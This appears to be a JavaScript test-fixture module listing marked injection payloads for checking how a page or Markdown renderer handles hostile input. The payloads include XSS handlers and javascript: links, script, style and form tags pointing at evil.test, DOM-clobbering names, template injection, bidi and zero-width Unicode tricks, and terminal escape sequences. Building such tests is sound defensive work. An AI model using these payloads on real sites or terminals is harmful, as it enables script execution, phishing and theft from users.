// Text that attacks a page. Each has a mark of its own (`§` here), by which a test finds it again:
// one that is not in the page was not tried.

/** What may stand anywhere: one line, no control character. */
const LINES = {
  // Elements that run, load or cover something.
  script: "§<script>alert(1)</script>",
  scriptsrc: "§<script src=//evil.test/x.js></script>",
  importmap: '§<script type=importmap>{"imports":{"./swap.js":"//evil.test/s.js"}}</script>',
  imgerror: "§<img src=x onerror=alert(1)>",
  imgremote: "§<img src=//evil.test/i.png srcset=//evil.test/j.png>",
  svgload: "§<svg onload=alert(1)>",
  svgslash: "§<svg/onload=alert(1)//",
  svganimate: "§<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  svgset: "§<svg><a><set attributeName=href to=javascript:alert(1) /><text>x",
  svguse: '§<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  svgscript: "§<svg><script href=//evil.test/x.js />",
  svgmutation: '§<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  mathlink: '§<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x',
  mathmutation: '§<math><mtext><mglyph><style><!--</style><img title="--><img src onerror=alert(1)>">',
  noscript: '§<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  details: "§<details open ontoggle=alert(1)>",
  autofocus: "§<input autofocus onfocus=alert(1)>",
  media: "§<video src=//evil.test/v><source onerror=alert(1)></video>",
  frame: '§<iframe src="data:text/html,<script>alert(1)</script>">',
  srcdoc: '§<iframe srcdoc="<script>parent.alert(1)</script>">',
  object: "§<object data=//evil.test/o></object><embed src=//evil.test/e>",
  marquee: "§<marquee onstart=alert(1)>",
  bodyload: "§<body onload=alert(1)>",
  dialog: "§<dialog open oncancel=alert(1) style=inset:0>",
  popover: "§<div popover id=pop></div><button popovertarget=pop autofocus>",
  // Links.
  jslink: "§<a href=javascript:alert(1)>x</a>",
  jsspace: '§<a href="java&#9;script:alert(1)" ping=//evil.test>x</a>',
  jsmarkdown: "§ [§](javascript:alert(1)) [x](java&#115;cript&colon;alert(1))",
  jsauto: "§ <javascript:alert(1)> <vbscript:x> <data:text/html,x>",
  datalink: "§ [§](data:text/html,<script>alert(1)</script>)",
  elsewhere: "§ [§](//evil.test) [§](\\\\evil.test) [§](/\\evil.test)",
  remoteimage: "§ ![§](https://evil.test/i.png) ![§](//evil.test/j.png)",
  dataimage: "§ ![§](data:image/svg+xml,<svg onload=alert(1)>)",
  linktitle: '§ [§](/d "\\" onmouseover=alert(1) x=\\"")',
  address: '§ https://evil.test/"onmouseover="alert(1) https://evil.test/<b>',
  // Styles.
  cssimport: "§<style>@import '//evil.test/a.css';*{display:none}</style>",
  cssurl: '§<p style="background:url(//evil.test/b);position:fixed;inset:0">',
  cssexpression: '§<p style="width:expression(alert(1));-moz-binding:url(//evil.test)">',
  csslink: "§<link rel=stylesheet href=//evil.test/a.css><link rel=preconnect href=//evil.test>",
  // What changes the document around it.
  base: "§<base href=//evil.test/ target=_top>",
  refresh: '§<meta http-equiv=refresh content="0;url=//evil.test">',
  form: "§<form action=//evil.test><button autofocus>Sign in</button></form>",
  formaction: "§<button form=approve formaction=javascript:alert(1)>x</button>",
  template: "§<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  plaintext: "§<plaintext>",
  // Names that scripts rely on.
  clobberform: "§<form name=body id=main><input name=attributes><input name=id></form>",
  clobberdocument: "§<img name=getElementById><img name=querySelectorAll><form name=documentElement>",
  clobberids: "§<a id=text></a><a id=text name=dataset></a><p id=say><p id=connection>",
  clobberwindow: "§<a id=trustedTypes></a><a id=Highlight></a><iframe name=CSS></iframe>",
  clobbermodules: "§<div id=notes data-live=all data-module=reader data-keep data-b=0-9>",
  // Ways out of where it stands.
  title: "§</title><script>alert(1)</script>",
  textarea: "§</textarea><img src=x onerror=alert(1)>",
  styleend: "§</style></script><img src=x onerror=alert(1)>",
  select: "§</option></select><img src=x onerror=alert(1)>",
  comment: "§<!--><img src=x onerror=alert(1)>-->",
  commentend: "§--!><img src=x onerror=alert(1)>",
  cdata: "§<![CDATA[<img src=x onerror=alert(1)>]]>",
  closers: "§</p></div></main></body></html><h1>§",
  doublequote: '§" autofocus onfocus="alert(1)',
  singlequote: "§' autofocus onfocus='alert(1)",
  backtick: "§` autofocus onfocus=`alert(1)",
  unquoted: "§ autofocus onfocus=alert(1) x=",
  unclosed: '§<img src="x" onerror="alert(1)" title="',
  entities: "§&lt;img src=x onerror=alert(1)&gt;&quot;&amp;lt;",
  numbers: "§&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
  percent: "§%3Cscript%3Ealert(1)%3C/script%3E%00%0d%0a",
  fullwidth: "§＜script＞alert(1)＜/script＞",
  // Templates, and what a program takes for its own.
  braces: "§{{7*7}}{{constructor.constructor('alert(1)')()}}",
  dollar: "§${alert(1)}#{alert(1)}<%=alert(1)%>",
  askama: '§{% include "layout.html" %}{{ frame|safe }}',
  prototype: "§ __proto__ constructor toString hasOwnProperty",
  json: '§</script>"}];alert(1)//',
  stream: "§ data: {} event: reset id: 0-0",
  separators: "§\u2028alert(1)\u2029",
  // What hides, or turns round what stands beside it.
  override: "§\u202Egnp.exe",
  embedding: "§\u202B\u202A\u202Dabc",
  isolates: "§\u2067\u2066abc\u2068",
  pops: "§\u2069\u2069\u202C\u202C abc",
  marks: "§\u200F\u061C\u200E",
  hebrew: "§ \u05E9\u05DC\u05D5\u05DD 12 (3)",
  zerowidth: "§a\u200Bb\u200Cc\u2060d\uFEFFe",
  tags: "§\u{E0041}\u{E0042}",
  blanks: "§\u3164\u2800\u00A0\u00AD",
  combining: `§${"\u0335\u0489".repeat(9)}`,
};

/** What only output, commits and files hold: sequences of terminals, and bytes that are no text. */
const CONTROLS = {
  ansi: "§\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[0m",
  hyperlink: "§\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\",
  hyperlinkbell: "§\x1b]8;;https://evil.test/\x07link\x1b]8;;\x07",
  terminaltitle: "§\x1b]0;title\x07\x1b]2;title\x1b\\",
  clipboard: "§\x1b]52;c;aGk=\x07",
  screen: "§\x1b[2J\x1b[?1049h\x1b[999D\x1b[5i",
  device: "§\x1bPq#0;2;0;0;0\x1b\\\x1b_Gf=100;\x1b\\",
  singles: "§\u009b31m\u0090q\u009c\u0085",
  backspaces: "§rm\x08\x08ls\x7f",
  unended: "§\x1b]0;<img src=x onerror=alert(1)>",
};

/** What takes several lines: Markdown that makes elements of its own. */
const BLOCKS = {
  headings: "# § main\n\n## say\n\n## connection\n\n### §\n\n### §\n\n# <h1 id=main>\n\n## notes",
  reference: "[§][r] and [§]\n\n[r]: javascript:alert(1)\n[§]: data:text/html,x",
  fence: '```§" onmouseover="alert(1)\n§<script>alert(1)</script>\n```',
  fencelong: "~~~js</code><script>alert(1)</script>\nlet § = '</code></pre><script>alert(1)</script>';\n~~~",
  footnotes: 'Here[^"><img/src=x>] and [^1].\n\n[^"><img/src=x>]: §<script>alert(1)</script>\n\n[^1]: §',
  table: "| § | <script> |\n|---|:-:|\n| §`|` | ![§](x\" onerror=alert(1)) |",
  nested: "> - > 1. §<img src=x onerror=alert(1)>\n>   > [!NOTE]\n>   > §<svg onload=alert(1)>",
  htmlblock: "<div id=main data-live=all onclick=alert(1)>\n§<script>alert(1)</script>\n</div>",
  htmlcomment: "<!-- § -->\n\n<?php § ?>\n\n<!DOCTYPE § SYSTEM \"//evil.test/x.dtd\">",
  htmltable: "<table><tr><td>§</div></main>\n\n# § </table>\n\n<li>§<td>§<script>alert(1)</script>",
  htmlmutation: "<div><svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">§</div>\n\n<p><math><mi><table><mglyph><b>§<a href=x><a href='javascript:alert(1)'>§",
  htmllinks: '<p><a href="&#106;avascript&colon;alert(1)" target=_top ping=//evil.test>§</a> <a href="java&Tab;script:alert(1)">§</a> <a href=x><img src=//evil.test/i.png alt=§></a></p>',
  htmlclobber: '<div id=forms><b id=text name=text>§</b><b id=text class=reader data-module=reader>§</b><a name=body id=say>§</a></div>',
  htmlclosers: "</div></main></body>\n\n> </blockquote></ul></table>§\n\n- </li></ul>**</strong>§**",
  htmldeep: `${"<div><b><ul><li>".repeat(500)}§`,
  htmlstyled: "<p style='position:fixed;inset:0' onclick=alert(1) autofocus tabindex=0 contenteditable>§</p>\n<details open ontoggle=alert(1)><summary onfocus=alert(1)>§</details>",
  images: "§ ![§\"><script>alert(1)</script>](x.png \"§\\\" onerror=alert(1)\") [![§](y.svg)](javascript:alert(1))",
  tasks: "- [ ] §<input autofocus onfocus=alert(1)>\n- [x] §",
  formula: "$§<script>alert(1)</script>$ and $$\\href{javascript:alert(1)}{§}$$",
  diagram: "```mermaid\ngraph TD; A[\"§<img src=x onerror=alert(1)>\"] --> B; click A \"javascript:alert(1)\"\n```",
};

const marked = (table) => new Map(Object.entries(table).map(([name, text]) => {
  const mark = `zq${name}qz`;
  return [mark, text.replaceAll("§", mark)];
}));

/** By their marks: what stands anywhere, what only output holds, and what takes several lines. */
export const [lines, controls, blocks] = [LINES, CONTROLS, BLOCKS].map(marked);

/** Returns all in one text, each in a paragraph of its own. */
export function paragraphs(...tables) {
  return `${tables.flatMap((it) => [...it.values()]).join("\n\n")}\n`;
}

/** Returns attacks joined by `between`, in as few texts as there must be: `[{ marks, text }]`. */
export function packed(table, bytesMax, { between = " ", of = (text) => text } = {}) {
  const packs = [];
  for (const [mark, attack] of table) {
    const text = of(attack);
    const last = packs.at(-1);
    const joined = last && last.text + between + text;
    if (joined && Buffer.byteLength(joined) <= bytesMax) {
      last.text = joined;
      last.marks.push(mark);
    } else {
      packs.push({ marks: [mark], text });
    }
  }
  for (const { text } of packs) {
    if (Buffer.byteLength(text) > bytesMax) throw new Error(`longer than ${bytesMax}: ${text}`);
  }
  return packs;
}

/** Returns an attack as a part of a path: what git, the program or a prompt refuse there is left out. */
export function inPath(text) {
  return text.replaceAll(/[\\\p{Cc}\u2028\u2029]/gu, "").replaceAll(/\/+/g, "/").replaceAll(/\/$/g, "");
}
